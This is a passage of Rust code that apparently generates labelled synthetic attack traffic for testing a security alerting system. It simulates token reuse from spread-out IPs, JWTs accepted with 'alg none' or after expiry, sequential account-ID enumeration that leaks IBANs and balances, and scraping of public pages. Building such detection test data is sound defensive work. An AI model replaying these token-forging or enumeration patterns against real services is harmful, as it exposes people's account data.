            // Hanoi's and Lagos's own single /24s.
            let k = st.next_addr[c].max(first_in_separate_nets(c));
            st.next_addr[c] = k + 1;
            attacker_addr(c, k)
        })
        .collect();
    let mut t = t0;
    let spread = st.rng.range(30, 300) * NS;
    for round in 0..3 {
        for ip in &sources {
            t += spread / (3 * n_sources);
            let p = if round % 2 == 0 {
                "/balance".to_owned()
            } else {
                format!("/accounts/{account}")
            };
            let ua = *st.rng.pick(WEB_UAS);
            let who = TokenHolder {
                ip: *ip,
                ua,
                auth: &auth,
            };
            a.get(st.b, t, who, &p, resp(200, "{\"balance\":1200.00}"));
        }
    }
    a.done()
}

fn jwt_weakness(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let none = st.rng.chance(0.5);
    let mut a = Attack::new(
        AlertKind::JwtWeakness,
        if none {
            "alg none accepted"
        } else {
            "expired token accepted"
        },
    );
    let (t0, v) = st.established(KNOWN);
    let name = st.users[v].name.clone();
    let ip = st.any_attacker();
    let now = t0 / NS;
    let tok = if none {
        jwt("none", &name, now, now + 3600, st.rng)
    } else {
        let age = st.rng.range(1, 4) * 86_400;
        jwt("RS256", &name, now - age - 3600, now - age, st.rng)
    };
    a.principals.push(format!("jwt:{name}"));
    let auth = bearer(&tok);
    let who = TokenHolder {
        ip,
        ua: CURL,
        auth: &auth,
    };
    let mut t = t0;
    for _ in 0..st.rng.range(1, 5) {
        a.get(st.b, t, who, "/balance", resp(200, "{\"balance\":1200.00}"));
        t += st.rng.range(1, 10) * NS;
    }
    a.done()
}

fn enumeration(st: &mut Stage<'_>, k: usize) -> Scenario {
    let mut a = Attack::new(AlertKind::Enumeration, "sequential ids");
    let ip = st.any_attacker();
    let mule = format!("mule{k}");
    a.principals.push(format!("user:{mule}"));
    a.principals.push(format!("jwt:{mule}"));
    let t0 = st.when();
    let tok = jwt("RS256", &mule, t0 / NS, t0 / NS + 3600, st.rng);
    let ua = *st.rng.pick(&[APP_UAS[0], PYTHON_REQUESTS, WEB_UAS[2]]);
    // The mule's own login: the scenario's, beside the attempts.
    let (ct, body) = login_body(false, &mule, "mule-pass");
    a.send(
        st.b,
        t0,
        ip,
        req("POST", "/login", ua, &[], Some((ct, &body))),
        resp(200, &format!("{{\"token\":\"{tok}\"}}")),
        Part::Aside,
    );
    let auth = bearer(&tok);
    let who = TokenHolder {
        ip,
        ua,
        auth: &auth,
    };
    let rate = 15.0 + st.rng.unit() * 45.0;
    let step = if st.rng.chance(0.7) {
        1
    } else {
        st.rng.range(2, 3)
    };
    let first = 100_000 + st.rng.below(1_800);
    let n = st.rng.range(60, 300);
    let mut t = t0 + st.rng.range(2, 10) * NS;
    for i in 0..n {
        let id = first + i * step;
        let ok = st.rng.chance(0.5);
        let body = if ok {
            format!(
                "{{\"id\":{id},\"iban\":\"{}\",\"balance\":{}}}",
                iban(id),
                st.rng.below(9000)
            )
        } else {
            "{\"error\":\"forbidden\"}".into()
        };
        let status = if ok { 200 } else { 403 };
        a.get(
            st.b,
            t,
            who,
            &format!("/accounts/{id}"),
            resp(status, &body),
        );
        t += st.interval(rate);
    }
    a.done()
}

const CURRENCIES: &[&str] = &[
    "USD", "EUR", "GBP", "JPY", "AED", "INR", "CNY", "CHF", "CAD", "AUD", "SGD", "HKD", "KRW",
    "TRY", "EGP", "KWD", "QAR", "BHD", "OMR", "JOD", "PKR", "BDT", "IDR", "MYR", "THB", "PHP",
    "ZAR", "NGN", "BRL", "MXN",
];

fn scraping(st: &mut Stage<'_>, _k: usize) -> Scenario {
    let mut a = Attack::new(AlertKind::Scraping, "public pages");
    let ip = st.any_attacker();
    a.principals.push(format!("ip:{ip}"));
    let ua = *st
        .rng
        .pick(&["Scrapy/2.11 (+https://scrapy.org)", WEB_UAS[0], GO_HTTP]);
    let rate = 30.0 + st.rng.unit() * 70.0;
    let n = st.rng.range(100, 300);
    let mut t = st.when();
    for _ in 0..n {
        let p = match st.rng.below(4) {
            0 => format!("/news/{}", st.rng.below(1_000_000)),
            1 => format!("/products/{:x}", st.rng.next_u64() & 0xffff_ffff),
            2 => format!("/branches/{}", st.rng.below(1_000_000)),
            _ => format!("/rates/{}", st.rng.pick(CURRENCIES)),
        };
        a.send(
            st.b,
            t,
            ip,
            req("GET", &p, ua, &[], None),
            resp(200, &format!("{{\"page\":\"{}\"}}", "p".repeat(500))),
            Part::Attempt,
        );
        t += st.interval(rate);
    }
    a.done()
}

/// `per_kind` scenarios of every kind in [`kinds`], numbered in order.
pub fn generate(st: &mut Stage<'_>, per_kind: usize) -> Vec<Scenario> {
    let mut out = Vec::new();
    for kind in kinds() {
        for k in 0..per_kind {
            let mut s = match kind {
                AlertKind::BruteForce => brute_force(st, k),
                AlertKind::CredentialStuffing => credential_stuffing(st, k),
                AlertKind::RateAnomaly => rate_anomaly(st, k),
                AlertKind::ImpossibleTravel => impossible_travel(st, k),
                AlertKind::NewCountry => new_country(st, k),
                AlertKind::BehaviorAnomaly => behavior_anomaly(st, k),
                AlertKind::DataExposure => data_exposure(st, k),
                AlertKind::TokenReuse => token_reuse(st, k),
                AlertKind::JwtWeakness => jwt_weakness(st, k),
                AlertKind::Enumeration => enumeration(st, k),
                AlertKind::Scraping => scraping(st, k),
                AlertKind::SqlInjection | AlertKind::Xss | AlertKind::PathTraversal => {
                    injection(st, kind)
                }
                AlertKind::SpoofedFlood => unreachable!("kinds() lists HTTP kinds only"),
            };
            s.id = out.len();
            out.push(s);
        }
    }
    out
}
